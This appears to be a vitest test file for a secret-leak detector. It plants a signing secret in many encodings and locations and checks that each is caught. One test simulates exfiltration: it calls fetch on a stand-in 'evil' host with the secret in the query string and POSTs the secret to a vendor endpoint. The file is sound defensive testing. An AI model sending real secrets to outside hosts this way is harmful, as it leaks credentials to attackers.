import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type CanaryWorld, openCanaryWorld } from './canary-world.ts'
import { secretValue } from './ground.ts'
import { encodings, findLeaks } from './leaks.ts'

const name = 'sinch_signing'
const secret = secretValue(name)
const named = encodings.map((encoding) => [encoding.name, encoding] as const)

describe('a leak is seen', () => {
  let world: CanaryWorld
  beforeAll(async () => {
    world = await openCanaryWorld()
  })
  beforeEach(() => world.reset())
  afterAll(() => world.close())

  test.each(named)('%s', (encoding, { write }) => {
    const found = findLeaks(`before ${write(secret)} after`, [{ name, value: secret }])

    expect(found).toContain(`${name} ${encoding}`)
  })

  test.each([
    ['JSON within JSON', JSON.stringify(JSON.stringify({ secret }))],
    ['Markdown that escapes signs', secret.replaceAll(/[_<&+"]/gu, (sign) => `\\${sign}`)],
    ['a page', secret.replaceAll(/[&<>"']/gu, (sign) => `&#${sign.charCodeAt(0)};`)],
    [
      'a script of a page',
      JSON.stringify(secret).replaceAll(/[<>&]/gu, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
    ],
    ['lines of ten signs', secret.replaceAll(/.{10}/gu, (line) => `${line}\n  `)],
    ['a text that is cut', Buffer.from(secret.repeat(9)).toString('base64').slice(0, 100)],
  ])('in %s', (_, text) => {
    expect(findLeaks(`before ${text} after`, [{ name, value: secret }])).not.toEqual([])
  })

  test('in every kind of place', async () => {
    const { directory, env } = world.ground
    await writeFile(join(directory, '.hooks-sync', 'left-over.tmp'), secret)
    await writeFile(join(env['HOME'] ?? '', 'trace.log'), Buffer.from(secret).toString('hex'))
    await writeFile(join(env['TMPDIR'] ?? '', 'swap'), encodeURIComponent(secret))
    await fetch(`${world.ground.fronts.evil.origin}/?a=${encodeURIComponent(secret)}`)
    await fetch(world.ground.fronts.sendblue.origin, { method: 'POST', body: JSON.stringify({ secret }) })

    const found = await world.findLeaks({ stdout: '', stderr: `${secret.slice(0, 9)}\n  ${secret.slice(9)}` })

    expect(found).toEqual(
      expect.arrayContaining([
        `stderr: ${name} as it is`,
        `project/.hooks-sync/left-over.tmp: ${name} as it is`,
        `home/trace.log: ${name} in hex`,
        `tmp/swap: ${name} percent-encoded`,
        `sent to evil: ${name} form-encoded`,
        `sent to sendblue: ${name} in JSON`,
      ]),
    )
  })

  test('of each kind of secret there is', async () => {
    const { ground } = world
    const old = secretValue(name, 'old')
    const [made] = ground.sandbox.vendors.tellcasey.webhooks.all()
    const kinds = [old, ground.env['SECRET_ID'], ground.env['OTHER_TOKEN'], ground.env['TELLCASEY_KEY'], made?.secret]
    await world.run(['plan'])
    const [token = ''] = ground.fronts.sinch.arrived.flatMap(({ text }) => /Bearer (\S+)/u.exec(text)?.[1] ?? [])

    const found = await Promise.all([...kinds, token].map((kind) => world.findLeaks({ stdout: `<${kind}>` })))

    expect(found.map((leaks) => leaks.some((leak) => leak.endsWith('as it is')))).toEqual(
      [...kinds, token].map(() => true),
    )
  })

  test('and nothing is seen where nothing is', async () => {
    const { stdout, stderr } = await world.run(['validate'])

    expect(await world.findLeaks({ stdout, stderr })).toEqual([])
  })
})
